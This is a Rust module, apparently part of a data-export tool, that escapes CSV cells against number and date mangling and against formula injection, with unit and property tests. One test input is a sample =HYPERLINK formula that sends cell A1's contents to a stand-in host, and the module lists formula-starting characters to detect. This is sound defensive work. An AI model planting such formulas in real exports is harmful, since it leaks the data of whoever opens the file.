//! Cells that spreadsheets show as they are.
//!
//! A spreadsheet that opens CSV takes cells for numbers, dates, truth values and formulas. It makes
//! `2062875508879110287` to 2.06E+18, `Mar 20` to a day, and runs `=HYPERLINK(…)`, which somebody
//! may have posted for that purpose (owasp.org/www-community/attacks/CSV_Injection, read
//! 2026-11-23). Two marks keep it from that:
//!
//! * `="…"`, a formula whose result is the text, around ids and around short texts that could be
//!   a number, a date or a truth value: nothing of the mark is to be seen. Only characters that
//!   can stand in such values are put there, no quote above all.
//! * `'` before a text that begins like a formula, as OWASP advises. Spreadsheets show it.
//!
//! A text that begins with `'` gets another one, so no cell begins with a mark that is not one, and
//! the marks can be taken off again. Numbers, truth values and times of the columns' own types stay
//! as they are; so does JSON, which begins with a bracket or a quote.
//!
//! LibreOffice 7.4 shows both as said, and every id whole (tried 2026-11-23). Of Excel it is what
//! others report; nobody could try it here.
//!
//! Deliberately does not: write separators for countries where spreadsheets expect semicolons.

use std::borrow::Cow;

use crate::columns::CellType;

/// The most characters in a cell of Excel, in units of UTF-16; what is longer runs over into other
/// cells (support.microsoft.com, "Excel specifications and limits", read 2026-11-23).
const MOST_UNITS: usize = 32_767;

/// The longest text that may be a date or a number with words, in bytes: "Wednesday, September 30,
/// 2026 12:00:00 PM" has 44. A guess; with a longer one, a spreadsheet changes how it is shown.
const LONGEST_VALUE: usize = 64;

/// What is before the first row, so that Excel takes the file for UTF-8.
pub(super) const BYTE_ORDER_MARK: &[u8] = b"\xEF\xBB\xBF";

/// How rows end: as Excel writes them and RFC 4180 has it.
pub(super) const END_OF_ROW: &[u8] = b"\r\n";

/// The cell of a value.
pub(super) fn cell(kind: CellType, text: Cow<'_, str>) -> Cow<'_, str> {
    match kind {
        _ if text.is_empty() => text,
        CellType::Id => literal(&text).into(),
        CellType::Text if may_be_taken_for_a_value(&text) => literal(&text).into(),
        CellType::Text if begins_like_a_formula(&text) => format!("'{text}").into(),
        CellType::Text
        | CellType::Integer
        | CellType::Boolean
        | CellType::DateTime
        | CellType::List
        | CellType::Object
        | CellType::Json => text,
    }
}

/// A cell that is too long for Excel, cut, and with a note at its end that says so; `None`: it fits.
pub(super) fn cut(text: &str) -> Option<String> {
    // No text has more units than bytes.
    if text.len() <= MOST_UNITS {
        return None;
    }
    let units: usize = text.chars().map(char::len_utf16).sum();
    if units <= MOST_UNITS {
        return None;
    }
    let note = format!("… [cut: {units} characters]");
    let room = MOST_UNITS - note.chars().count();
    let mut used = 0;
    let fits = |char: &char| {
        used += char.len_utf16();
        used <= room
    };
    Some(text.chars().take_while(fits).chain(note.chars()).collect())
}

fn literal(text: &str) -> String {
    ["=\"", text, "\""].concat()
}

/// Whether some spreadsheet somewhere may take it for a number, a date, a time or a truth value:
/// names of months are words of any language, so every word may be one.
fn may_be_taken_for_a_value(text: &str) -> bool {
    if text.len() > LONGEST_VALUE {
        return false;
    }
    let of_values =
        |char: char| char.is_alphanumeric() || ".,:/+-%() \u{a0}\u{202f}$€£¥₩₹₽₺−".contains(char);
    let is_truth = ["true", "false"].iter().any(|word| text.trim().eq_ignore_ascii_case(word));
    text.chars().all(of_values) && (is_truth || text.contains(char::is_numeric))
}

/// The characters that OWASP lists, NUL, which its ASVS 5.0 adds in 1.2.10, their forms of full
/// width, which spreadsheets in East Asia take for the same, and numbers that are too long for
/// [`literal`].
fn begins_like_a_formula(text: &str) -> bool {
    let begins = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\'', '＝', '＋', '－', '＠'];
    // Some can be told to leave out spaces.
    let first = text.trim_start_matches([' ', '\u{a0}', '\u{3000}']);
    let is_long_number = || {
        let of_numbers = |char: char| char.is_numeric() || "+-.,eE ".contains(char);
        text.len() > LONGEST_VALUE && text.chars().all(of_numbers)
    };
    first.starts_with(begins) || is_long_number()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(text: &str) -> String {
        cell(CellType::Text, text.into()).into_owned()
    }

    /// What `docs/output.md` tells readers to do.
    fn undone(cell: &str) -> &str {
        let literal = cell.strip_prefix("=\"").and_then(|cell| cell.strip_suffix('"'));
        literal.or_else(|| cell.strip_prefix('\'')).unwrap_or(cell)
    }

    #[test]
    fn what_could_be_a_number_a_date_or_a_truth_value_is_a_text() {
        assert_eq!(cell(CellType::Id, "2062875508879110287".into()), "=\"2062875508879110287\"");
        for value in [
            "00123",
            "1e10",
            "Mar 20",
            "MARCH1",
            "5 de mayo de 2020",
            "1/2",
            "-5",
            "+49 170 123",
            "(5)",
            "5%",
            "€ 5",
            "12:30 pm",
            "true",
            "FALSE",
            "٣/٤",
            "07e9",
        ] {
            assert_eq!(text(value), format!("=\"{value}\""));
        }
        for word in ["", "March", "A reed bed", "5 stars!", "see #5", "{1}"] {
            assert_eq!(text(word), word);
        }
    }

    #[test]
    fn what_begins_like_a_formula_is_marked() {
        for formula in [
            "=1+1",
            "@warden yes",
            "+foo",
            "-foo",
            "\t=1",
            "\r=1",
            "\n=1",
            "\0",
            " =1+1",
            "＝1",
            "=HYPERLINK(\"https://x.example/\"&A1,\"5\")",
            "'quoted'",
            "'",
        ] {
            assert_eq!(text(formula), format!("'{formula}"));
        }
        let long = "1".repeat(65);
        assert_eq!(text(&long), format!("'{long}"));
    }

    #[test]
    fn other_kinds_are_what_they_are() {
        for (kind, value) in [
            (CellType::Integer, "-3"),
            (CellType::Boolean, "true"),
            (CellType::DateTime, "2026-06-05T14:03:21.000Z"),
            (CellType::List, "[\"=1\"]"),
            (CellType::Object, "{}"),
            (CellType::Json, "7"),
            (CellType::Id, ""),
        ] {
            assert_eq!(cell(kind, value.into()), value);
        }
    }

    #[test]
    fn what_excel_can_not_take_is_cut_and_says_so() {
        for fits in ["a".repeat(MOST_UNITS), "é".repeat(MOST_UNITS), "𝔹".repeat(MOST_UNITS / 2)]
        {
            assert_eq!(cut(&fits), None);
        }
        for (long, units) in
            [("a".repeat(40_000), 40_000), ("𝔹".repeat(MOST_UNITS / 2 + 1), MOST_UNITS + 1)]
        {
            let cut = cut(&long).unwrap();
            assert!(cut.ends_with(&format!("… [cut: {units} characters]")), "{units}");
            let left: usize = cut.chars().map(char::len_utf16).sum();
            assert!((MOST_UNITS - 1..=MOST_UNITS).contains(&left), "{left}");
        }
    }

    proptest::proptest! {
        #[test]
        fn marks_can_be_taken_off(sent in "[ ='\"@a1+\n-]{0,6}|\\PC*") {
            let cell = text(&sent);
            proptest::prop_assert_eq!(undone(&cell), sent);
        }

        #[test]
        fn no_text_begins_like_a_formula_unless_it_is_a_literal(sent in "[ ='\"@a1+\n-]{0,6}") {
            let cell = text(&sent);
            let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let inside = cell.strip_prefix("=\"").and_then(|cell| cell.strip_suffix('"'));
            proptest::prop_assert!(!begins || inside.is_some_and(|text| !text.contains('"')));
        }
    }
}
